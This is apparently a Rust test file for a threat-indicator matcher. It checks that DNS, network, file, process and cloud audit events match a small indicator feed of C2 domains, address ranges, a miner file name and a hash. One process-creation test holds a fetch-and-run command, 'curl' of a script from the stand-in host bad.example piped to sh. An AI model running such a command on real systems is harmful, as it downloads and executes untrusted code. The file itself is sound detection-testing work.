//! What events meet, in which field, and when.

use rules::indicators::Set;
use rules::{Event, JsonEvent, LogSource, fields};
use serde_json::{Value, json};

const FEED: &str = "type,value,source,why,expires,level
domain,bad.example,Lab,c2,2026-06-01T00:00:00Z,high
domain,deep.bad.example,CERT,stage two,,
address,198.51.100.7,Lab,scanner,,
network,198.51.100.0/24,Lab,rented by them,,
network,203.0.0.0/12,Lab,,,
network,2001:db8::/32,Lab,,,
url,http://bad.example/a.sh?x=1,Lab,,,
file_name,kdevtmpfsi,Lab,miner,,
file_name,.x/run,Lab,,,
file_name,/usr/bin/evil,Lab,,,
sha256,abababababababababababababababababababababababababababababababab,Lab,image,,
";

/// 2026-01-01.
const NOW: i64 = 1_767_225_600;

fn set() -> Set {
    let (set, errors) = Set::load([("feed.csv", FEED)]);
    assert!(errors.is_empty(), "{errors:?}");
    set
}

fn check(source: LogSource<'static>, event: &Value, expected: &[&str]) {
    check_at(NOW, source, event, expected);
}

fn check_at(at: i64, source: LogSource<'static>, event: &Value, expected: &[&str]) {
    let (set, view) = (set(), JsonEvent::new(event, source));
    let mut hits = Vec::new();
    set.lookup(&view, at, &mut hits);
    let told = hits.iter().map(|hit| {
        let value = String::from_utf8_lossy(&set.value(*hit, &view)).into_owned();
        format!("{} {value}: {}", hit.field, set.words(*hit, at).id)
    });
    assert_eq!(told.collect::<Vec<_>>(), expected, "{event}");
}

#[test]
fn a_name_is_met_with_all_below_it() {
    let asked = |name: &str, expected: &[&str]| check(fields::DNS_QUERY, &json!({ "QueryName": name }), expected);
    asked("bad.example", &["QueryName bad.example: indicator:domain:bad.example"]);
    asked("A.Bad.Example.", &["QueryName A.Bad.Example.: indicator:domain:bad.example"]);
    asked(
        "x.deep.bad.example",
        &[
            "QueryName x.deep.bad.example: indicator:domain:deep.bad.example",
            "QueryName x.deep.bad.example: indicator:domain:bad.example",
        ],
    );
    asked("notbad.example", &[]);
    asked("bad.example.org", &[]);
    asked("example", &[]);
    asked(&"a.".repeat(400), &[]);
    check(
        fields::TLS_CONNECTION,
        &json!({"DestinationHostname": "bad.example"}),
        &["DestinationHostname bad.example: indicator:domain:bad.example"],
    );
}

#[test]
fn answers_of_a_name_server_are_looked_at_one_by_one() {
    let event = json!({"QueryName": "good.example", "QueryResults": "cdn.bad.example;192.0.2.1;198.51.100.7;"});
    check(
        fields::DNS_QUERY,
        &event,
        &[
            "QueryResults cdn.bad.example: indicator:domain:bad.example",
            "QueryResults 198.51.100.7: indicator:address:198.51.100.7",
            "QueryResults 198.51.100.7: indicator:network:198.51.100.0/24",
        ],
    );
}

#[test]
fn an_address_is_met_by_itself_and_by_every_network_around_it() {
    let met = |address: &str, expected: &[&str]| {
        check(fields::NETWORK_CONNECTION, &json!({ "DestinationIp": address }), expected);
    };
    met("198.51.100.8", &["DestinationIp 198.51.100.8: indicator:network:198.51.100.0/24"]);
    met("::ffff:198.51.100.8", &["DestinationIp 198.51.100.8: indicator:network:198.51.100.0/24"]);
    met("203.15.255.255", &["DestinationIp 203.15.255.255: indicator:network:203.0.0.0/12"]);
    met("203.16.0.0", &[]);
    met("2001:db8::77", &["DestinationIp 2001:db8::77: indicator:network:2001:db8::/32"]);
    met("2001:db9::77", &[]);
    met("198.51.101.8", &[]);
}

#[test]
fn audit_entries_are_asked_for_where_the_call_came_from() {
    let met = ["sourceIPAddress 203.0.113.5: indicator:network:203.0.0.0/12"];
    check(fields::CLOUDTRAIL, &json!({"sourceIPAddress": "203.0.113.5", "userAgent": "bad.example"}), &met);
    check(fields::CLOUDTRAIL, &json!({"sourceIPAddress": "ec2.amazonaws.com"}), &[]);
    let met = ["sourceIPs 203.0.113.5: indicator:network:203.0.0.0/12"];
    check(fields::KUBERNETES_AUDIT, &json!({"sourceIPs": ["192.0.2.1", "203.0.113.5"]}), &met);
    let met = ["protoPayload.requestMetadata.callerIp 203.0.113.5: indicator:network:203.0.0.0/12"];
    check(fields::GCP_AUDIT, &json!({"protoPayload": {"requestMetadata": {"callerIp": "203.0.113.5"}}}), &met);
    let met = ["ClientIP 203.0.113.5: indicator:network:203.0.0.0/12"];
    check(fields::M365_AUDIT, &json!({"ClientIP": "203.0.113.5:49152"}), &met);
}

#[test]
fn a_file_is_met_by_the_end_of_its_path_or_by_the_whole() {
    let met = |path: &str, expected: &[&str]| check(fields::FILE_EVENT, &json!({ "TargetFilename": path }), expected);
    met("/tmp/kdevtmpfsi", &["TargetFilename /tmp/kdevtmpfsi: indicator:file_name:kdevtmpfsi"]);
    met("kdevtmpfsi", &["TargetFilename kdevtmpfsi: indicator:file_name:kdevtmpfsi"]);
    met("/tmp/.x/run", &["TargetFilename /tmp/.x/run: indicator:file_name:.x/run"]);
    met("/usr/bin/evil", &["TargetFilename /usr/bin/evil: indicator:file_name:/usr/bin/evil"]);
    for path in ["/root/usr/bin/evil", "/tmp/kdevtmpfsi.log", "/tmp/kdevtmpfsi/x", "/tmp/a.x/run", "/run", "", "/"] {
        met(path, &[]);
    }
}

#[test]
fn what_a_process_is_and_was_given_is_looked_at_when_it_begins() {
    let image = format!("sha256:{}", "ab".repeat(32));
    let event = json!({
        "Image": "/dev/shm/kdevtmpfsi",
        "CommandLine": "sh -c curl -s HTTP://bad.example:80/a.sh?x=1;sh",
        "ImageDigest": image,
    });
    let hash = "ab".repeat(32);
    check(
        fields::PROCESS_CREATION,
        &event,
        &[
            "Image /dev/shm/kdevtmpfsi: indicator:file_name:kdevtmpfsi",
            "CommandLine HTTP://bad.example:80/a.sh?x=1: indicator:url:http://bad.example/a.sh?x=1",
            &format!("ImageDigest {image}: indicator:sha256:{hash}"),
        ],
    );
    check(fields::NETWORK_CONNECTION, &event, &[]);
}

#[test]
fn an_expired_indicator_is_silent_and_can_be_asked_for() {
    let (set, event) = (set(), json!({"QueryName": "bad.example"}));
    let view = JsonEvent::new(&event, fields::DNS_QUERY);
    let june = 1_780_272_000;
    check_at(june - 1, fields::DNS_QUERY, &event, &["QueryName bad.example: indicator:domain:bad.example"]);
    check_at(june, fields::DNS_QUERY, &event, &[]);
    let mut hits = Vec::new();
    set.lookup_expired(&view, june - 1, &mut hits);
    assert!(hits.is_empty());
    set.lookup_expired(&view, june, &mut hits);
    assert_eq!(set.words(hits[0], june).why, "Lab lists it: c2; it expired on 2026-06-01T00:00:00Z.");
    assert_eq!(set.words(hits[0], NOW).why, "Lab lists it: c2; until 2026-06-01T00:00:00Z.");
}

#[test]
fn all_sources_of_a_value_are_named_together() {
    let feed =
        "type,value,source,why,level,confidence\ndomain,bad.example,A,c2,low,\ndomain,bad.example,B,miner.,high,40\n";
    let (set, _) = Set::load([("feed.csv", feed)]);
    let event = json!({"QueryName": "bad.example"});
    let mut hits = Vec::new();
    set.lookup(&JsonEvent::new(&event, fields::DNS_QUERY), NOW, &mut hits);
    assert_eq!(hits.len(), 1);
    let words = set.words(hits[0], NOW);
    assert_eq!(words.title, "Indicator: domain bad.example");
    assert_eq!(words.why, "A lists it: c2. B lists it: miner, 40 of 100 sure.");
    assert_eq!(words.level, rules::Level::High);
}

#[test]
fn names_of_long_values_end_in_a_hash_of_all_of_it() {
    let url = |end: &str| format!("http://bad.example/{}{end}", "a".repeat(300));
    let id = |url: &str| {
        let (set, _) = Set::load([("feed.csv", format!("type,value\nurl,{url}\n"))]);
        let event = json!({"CommandLine": format!("curl {url}")});
        let mut hits = Vec::new();
        set.lookup(&JsonEvent::new(&event, fields::PROCESS_CREATION), NOW, &mut hits);
        set.words(hits[0], NOW).id
    };
    assert!(id(&url("x")).len() <= 256);
    assert_ne!(id(&url("x")), id(&url("y")));
}

/// Every text of this event is the same bytes.
struct Bytes<'a>(&'a [u8], LogSource<'static>);

impl Event for Bytes<'_> {
    fn log_source(&self) -> LogSource<'_> {
        self.1
    }

    fn field<'a>(&'a self, _: &'a rules::Field) -> rules::Value<'a> {
        rules::Value::Text(self.0)
    }

    fn each_text(&self, visit: &mut dyn FnMut(&[u8]) -> bool) -> bool {
        visit(self.0)
    }
}

/// Any bytes at all in every field: neither a panic nor more than can be told.
pub(crate) fn any_bytes(bytes: &[u8]) {
    thread_local!(static SET: Set = set());
    SET.with(|set| {
        for source in [fields::PROCESS_CREATION, fields::FILE_EVENT, fields::CLOUDTRAIL, fields::M365_AUDIT] {
            let event = Bytes(bytes, source);
            let mut hits = Vec::new();
            set.lookup(&event, NOW, &mut hits);
            assert!(hits.len() <= 16);
            for hit in hits {
                assert!(!set.words(hit, NOW).title.is_empty());
                assert!(!set.value(hit, &event).is_empty());
            }
        }
    });
}
